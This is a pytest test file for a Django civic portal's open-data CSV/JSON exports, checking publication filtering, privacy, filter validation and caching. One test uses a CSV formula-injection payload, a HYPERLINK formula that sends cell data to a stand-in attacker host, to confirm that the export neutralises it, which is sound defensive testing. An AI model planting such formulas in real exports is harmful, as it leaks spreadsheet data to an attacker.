"""Open data on the portal (issue 12): the published items of each dataset as CSV and JSON,
nothing unpublished, nothing personal, formulas neutralised, bad filters refused."""

import csv
import datetime as dt
import io
import json

import pytest
from django.core.cache import caches
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.factories import make_org
from tests.portal.test_portal import answered
from tests.proposals.conftest import World
from xieshang.consultation.models import (
    Activity,
    ActivityForm,
    ConsultationPlan,
    Outcome,
    PlanItem,
    Topic,
    TopicType,
)
from xieshang.orgs.models import Level
from xieshang.platforms.models import Platform, PlatformSession, SessionOutcome
from xieshang.portal import opendata
from xieshang.residents.models import ResidentIssue

INDEX = reverse("portal:data")
RESIDENT = "王阿姨"
RESIDENT_PHONE = "13900001111"


def csv_url(key: str, query: str = "") -> str:
    return reverse("portal:data_csv", args=[key]) + query


def json_url(key: str, query: str = "") -> str:
    return reverse("portal:data_json", args=[key]) + query


def read_csv(response) -> list[list[str]]:
    raw = response.content
    assert raw.startswith("\ufeff".encode()), "the BOM Excel needs"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def read_json(response) -> dict:
    assert response["Content-Type"].startswith("application/json")
    return json.loads(response.content.decode("utf-8"))


@pytest.fixture
def world(db):
    w = World()
    w.street = make_org("城关街道", Level.STREET, parent=w.district)
    w.community = make_org("东门社区", Level.COMMUNITY, parent=w.street)
    w.other = make_org("邻区政协", Level.DISTRICT, parent=w.city)
    w.platform = Platform.objects.create(
        organisation=w.community,
        level=Level.COMMUNITY,
        name="东门社区议事厅",
        convener_name="刘书记",
        status=Platform.Status.RUNNING,
    )
    return w


# --- items of each dataset, published or not ------------------------------------------------


def issue(w, title, *, status=ResidentIssue.Status.ANSWERED, **extra):
    fields = {
        "organisation": w.community,
        "ticket": f"T{ResidentIssue.objects.count() + 1:06d}",
        "check_code_hash": "x",
        "title": title,
        "description": f"北门路灯坏了一个月。有事请打{RESIDENT_PHONE}找{RESIDENT}。",
        "location": "幸福路12号3栋",
        "channel": ResidentIssue.Channel.choices[0][0],
        "resident_name": RESIDENT,
        "phone": RESIDENT_PHONE,
        "status": status,
        "department": w.housing,
        "answer": f"已更换路灯。{RESIDENT}如有问题请拨{RESIDENT_PHONE}。",
        "answered_at": timezone.now(),
        **extra,
    }
    return ResidentIssue.objects.create(**fields)


def session(w, title, *, published=True, **extra):
    s = PlatformSession.objects.create(
        platform=w.platform,
        title=title,
        starts_at=dt.datetime(2026, 5, 10, 2, 0, tzinfo=dt.UTC),
        place="社区会议室",
        status=PlatformSession.Status.PUBLISHED if published else PlatformSession.Status.HELD,
        is_published=published,
        published_on=dt.date(2026, 5, 20) if published else None,
        resident_count=2,
        resident_names=f"{RESIDENT}、李大爷",
        minutes=f"{RESIDENT}提出停车难，电话{RESIDENT_PHONE}。",
        **extra,
    )
    SessionOutcome.objects.create(session=s, position=1, text="划定临时停车位", responsible="物业")
    return s


def consultation_outcome(w, title, *, topic=None, outcome_status=Outcome.Status.DECIDED):
    topic = topic or Topic.objects.create(
        organisation=w.district,
        title="菜市场周边交通整治",
        source=Topic.Source.PUBLIC,
        proposer_name=RESIDENT,
        contact_phone=RESIDENT_PHONE,
        status=Topic.Status.OPEN,
    )
    plan, _ = ConsultationPlan.objects.get_or_create(
        organisation=w.district,
        year=2026,
        defaults={"title": "2026年度协商计划", "status": ConsultationPlan.Status.PUBLISHED},
    )
    item = PlanItem.objects.create(
        plan=plan,
        topic=topic,
        title=topic.title,
        form=ActivityForm.STANDING,
        topic_type=TopicType.POLITICAL,
        month=5,
        lead_leader="陈主席",
    )
    activity = Activity.objects.create(
        organisation=w.district,
        plan_item=item,
        title="菜市场交通协商会",
        form=ActivityForm.STANDING,
        date=dt.date(2026, 5, 12),
        place="区政协会议室",
        status=Activity.Status.HELD,
    )
    return Outcome.objects.create(
        organisation=w.district,
        activity=activity,
        kind=Outcome.Kind.RECOMMENDATION,
        title=title,
        body=f"内部正文，联系{RESIDENT_PHONE}",
        status=outcome_status,
        decided_on=dt.date(2026, 6, 1) if outcome_status == Outcome.Status.DECIDED else None,
        decision="内部决策结果",
    )


def add_published(w, key: str, n: int) -> None:
    for i in range(n):
        if key == "proposals":
            answered(w, title=f"公开提案{i}")
        elif key == "resident-answers":
            issue(w, f"公开事项{i}")
        elif key == "platform-sessions":
            session(w, f"公开议事{i}")
        elif key == "consultation-outcomes":
            consultation_outcome(w, f"公开成果{i}")


# --- tests -------------------------------------------------------------------------------------


def test_the_index_lists_every_dataset_with_counts_links_and_terms(client, world):
    add_published(world, "proposals", 2)
    answered(world, title="未公开提案", published=False)
    response = client.get(INDEX)
    assert response.status_code == 200
    body = response.content.decode()
    for key in ("proposals", "consultation-outcomes", "platform-sessions", "resident-answers"):
        assert csv_url(key) in body and json_url(key) in body
    row = body.split('id="dataset-proposals"')[1].split("</tr>")[0]
    assert ">2<" in row  # the unpublished one is not counted
    assert "2026年7月1日" in row  # last published, in Chinese date style
    assert 'id="data-terms"' in body and "使用条款" in body
    assert str(opendata.MAX_ROWS) in body
    # Reachable from every portal page.
    assert INDEX in client.get(reverse("portal:home")).content.decode()


@pytest.mark.clause("C4.6")
def test_published_proposal_in_csv_and_json_and_nothing_else(client, world):
    shown = answered(world, title="关于加快老旧小区加装电梯的建议")
    answered(world, title="未公开的提案", published=False)
    answered(world, title="办公室暂缓公开的提案", office_withheld=True)
    answered(world, title="提案人不同意公开的提案", proposer_opt_out=True)

    rows = read_csv(client.get(csv_url("proposals")))
    assert rows[0][:4] == ["提案号", "案由", "类别", "年度"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["案由"] == "关于加快老旧小区加装电梯的建议"
    assert row["提案号"] == shown.number and row["年度"] == "2026"
    assert row["办理单位"] == "区住房和城乡建设局（主办）"
    assert row["办理结果"].startswith("B类")
    assert row["提案人"] == "张丽华、王建国"  # the confirmed signer only, as the page shows
    assert "加装电梯纳入年度计划" in row["答复内容"]
    assert row["网页地址"].endswith(reverse("portal:proposal", args=[shown.pk]))

    data = read_json(client.get(json_url("proposals")))
    assert data["dataset"] == "proposals" and data["count"] == 1
    assert {"key": "title", "label": "案由"} in data["fields"]
    assert data["generated_at"]
    [item] = data["items"]
    assert item["title"] == "关于加快老旧小区加装电梯的建议" and item["year"] == 2026
    raw = client.get(json_url("proposals")).content.decode()
    assert "关于加快" in raw  # ensure_ascii=False: Chinese as written, not \\u escapes
    for response in (client.get(csv_url("proposals")), client.get(json_url("proposals"))):
        text = response.content.decode("utf-8-sig")
        for private in ("王小明", "13812345678", "0571-88886666", "87654321", "赵六", "wxm@"):
            assert private not in text, private
        assert "未公开" not in text and "暂缓" not in text and "不同意公开" not in text


def test_a_formula_like_title_is_neutralised_in_the_csv(client, world):
    answered(world, title='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    answered(world, title="-1+1 的建议")
    rows = read_csv(client.get(csv_url("proposals")))
    titles = {r[1] for r in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点击")' in titles
    assert "'-1+1 的建议" in titles
    assert not any(t.startswith(("=", "-", "+", "@")) for t in titles)
    # JSON is data, not a spreadsheet: the title as written.
    items = read_json(client.get(json_url("proposals")))["items"]
    assert any(i["title"].startswith("=HYPERLINK") for i in items)


@pytest.mark.clause("C2.11")
def test_resident_answers_without_the_resident(client, world):
    shown = issue(world, "路灯不亮")
    issue(world, "尚未答复的事项", status=ResidentIssue.Status.ACCEPTED, answer="")
    issue(world, "答复不公开的事项", answer_public=False)
    issue(world, "垃圾信息事项", screen_spam=True)
    for response in (
        client.get(csv_url("resident-answers")),
        client.get(json_url("resident-answers")),
    ):
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        assert "路灯不亮" in text and "已更换路灯" in text
        for private in (RESIDENT, RESIDENT_PHONE, "幸福路12号", "尚未答复", "不公开", "垃圾"):
            assert private not in text, private
    [item] = read_json(client.get(json_url("resident-answers")))["items"]
    assert item["department"] == "区住房和城乡建设局" and item["place"] == "城关街道 · 东门社区"
    assert item["url"].endswith(reverse("residents_public:answer", args=[shown.pk]))


def test_platform_sessions_with_counts_not_names(client, world):
    session(world, "小区停车议事会")
    session(world, "未公开的议事会", published=False)
    data = read_json(client.get(json_url("platform-sessions")))
    assert data["count"] == 1
    [item] = data["items"]
    assert item["title"] == "小区停车议事会" and item["resident_count"] == 2
    assert item["outcomes"] == "划定临时停车位（物业）"
    assert item["held_on"] == "2026-05-10" and item["published_on"] == "2026-05-20"
    for response in (
        client.get(csv_url("platform-sessions")),
        client.get(json_url("platform-sessions")),
    ):
        text = response.content.decode("utf-8-sig")
        for private in (RESIDENT, "李大爷", RESIDENT_PHONE, "刘书记", "未公开"):
            assert private not in text, private


def test_consultation_outcomes_as_the_progress_page_shows_them(client, world):
    consultation_outcome(world, "关于菜市场交通整治的建议案")
    consultation_outcome(world, "起草中的成果", outcome_status=Outcome.Status.DRAFT)
    spam = Topic.objects.create(
        organisation=world.district,
        title="可疑议题",
        source=Topic.Source.PUBLIC,
        proposer_name="x",
        status=Topic.Status.OPEN,
        screen_spam=True,
    )
    consultation_outcome(world, "垃圾议题的成果", topic=spam)
    staff = Topic.objects.create(
        organisation=world.district,
        title="政协集题",
        source=Topic.Source.CPPCC,
        proposer_name="提案委",
        status=Topic.Status.OPEN,
    )
    consultation_outcome(world, "内部议题的成果", topic=staff)
    data = read_json(client.get(json_url("consultation-outcomes")))
    assert [i["title"] for i in data["items"]] == ["关于菜市场交通整治的建议案"]
    [item] = data["items"]
    assert item["kind"] == "建议案" and item["decided_on"] == "2026-06-01"
    assert item["plan"] == "2026年度协商计划" and item["activity_on"] == "2026-05-12"
    text = client.get(csv_url("consultation-outcomes")).content.decode("utf-8-sig")
    for private in (RESIDENT, RESIDENT_PHONE, "内部正文", "内部决策结果", "起草中", "垃圾"):
        assert private not in text, private


def test_year_and_org_filters(client, world):
    answered(world, title="二〇二六年的提案")
    earlier = answered(world, title="二〇二五年的提案")
    type(earlier).objects.filter(pk=earlier.pk).update(year=2025)
    other = answered(world, title="邻区的提案")
    type(other).objects.filter(pk=other.pk).update(organisation=world.other)

    def titles(query):
        return [i["title"] for i in read_json(client.get(json_url("proposals", query)))["items"]]

    assert sorted(titles("?year=2025")) == ["二〇二五年的提案"]
    assert "邻区的提案" not in titles(f"?org={world.district.pk}")
    assert titles(f"?org={world.other.pk}") == ["邻区的提案"]
    assert sorted(titles(f"?org={world.city.pk}&year=2026")) == ["二〇二六年的提案", "邻区的提案"]


def test_a_file_is_built_once_and_changes_as_soon_as_an_item_is_published_or_withdrawn(
    client, world
):
    first = answered(world, title="第一件公开提案")

    def fetch(url):
        with CaptureQueriesContext(connection) as ctx:
            response = client.get(url)
        assert response.status_code == 200
        if url.endswith(".csv") or ".csv?" in url:
            titles = [row[1] for row in read_csv(response)[1:]]
        else:
            titles = [i["title"] for i in read_json(response)["items"]]
        return sorted(titles), len(ctx.captured_queries), response.content

    titles, built, body = fetch(json_url("proposals"))
    assert titles == ["第一件公开提案"]
    again, served, same = fetch(json_url("proposals"))
    assert again == titles and same == body
    assert served < built  # the rows were not read again
    assert fetch(csv_url("proposals"))[0] == titles  # a file of its own, not the JSON's

    answered(world, title="第二件公开提案")
    assert fetch(json_url("proposals"))[0] == ["第一件公开提案", "第二件公开提案"]
    # One withdrawn and another published on the same day: the same count and latest date.
    type(first).objects.filter(pk=first.pk).update(office_withheld=True)
    answered(world, title="第三件公开提案")
    assert fetch(json_url("proposals"))[0] == ["第三件公开提案", "第二件公开提案"]
    assert fetch(csv_url("proposals"))[0] == ["第三件公开提案", "第二件公开提案"]
    # Each filter is a file of its own.
    assert fetch(json_url("proposals", "?year=2025"))[0] == []


def test_a_damaged_cache_or_an_unwritable_disk_still_serves_the_file(client, world, tmp_path):
    """The "files" cache on disk only saves work: a damaged cached file is built again, and
    a folder that cannot be written (here a path through a regular file) serves the file
    uncached."""
    from django.test import override_settings

    answered(world, title="关于加装电梯的建议")
    folder = tmp_path / "files"
    on_disk = {"BACKEND": "django.core.cache.backends.filebased.FileBasedCache"}
    with override_settings(CACHES={"default": {}, "files": {**on_disk, "LOCATION": folder}}):
        first = client.get(json_url("proposals"))
        [cached] = list(folder.iterdir())
        cached.write_bytes(b"not a cache file")
        again = client.get(json_url("proposals"))
        assert again.status_code == 200
        assert read_json(again)["items"] == read_json(first)["items"]
    blocked = tmp_path / "a-file"
    blocked.write_text("x")
    with override_settings(
        CACHES={"default": {}, "files": {**on_disk, "LOCATION": blocked / "files"}}
    ):
        for url in (json_url("proposals"), csv_url("proposals")):
            response = client.get(url)
            assert response.status_code == 200, url
            assert "关于加装电梯的建议" in response.content.decode("utf-8-sig")


@pytest.mark.parametrize(
    "query", ["?year=abc", "?year=1800", "?year=99999", "?org=x", "?org=-1", "?org=999999"]
)
def test_bad_filters_are_a_400_in_chinese(client, world, query):
    for url in (csv_url("proposals", query), json_url("proposals", query)):
        response = client.get(url)
        assert response.status_code == 400
        assert "年份" in response.content.decode() or "政协组织" in response.content.decode()


def test_an_unknown_dataset_is_a_404(client, db):
    assert client.get(csv_url("members")).status_code == 404
    assert client.get(json_url("no-such-data")).status_code == 404


def test_anonymous_access_and_no_post(client, world):
    for url in (INDEX, csv_url("proposals"), json_url("resident-answers")):
        response = client.get(url)
        assert response.status_code == 200, url
        assert client.post(url).status_code == 405


@pytest.mark.parametrize(
    "key", ["proposals", "resident-answers", "platform-sessions", "consultation-outcomes"]
)
def test_a_fixed_number_of_queries_per_dataset(client, world, key):
    def queries(url):
        caches["files"].clear()  # the cost of building the file, not of serving it again
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(url).status_code == 200
        return len(ctx.captured_queries)

    add_published(world, key, 1)
    one = queries(json_url(key)), queries(csv_url(key, "?year=2026"))
    add_published(world, key, 3)
    assert read_json(client.get(json_url(key)))["count"] == 4
    assert (queries(json_url(key)), queries(csv_url(key, "?year=2026"))) == one
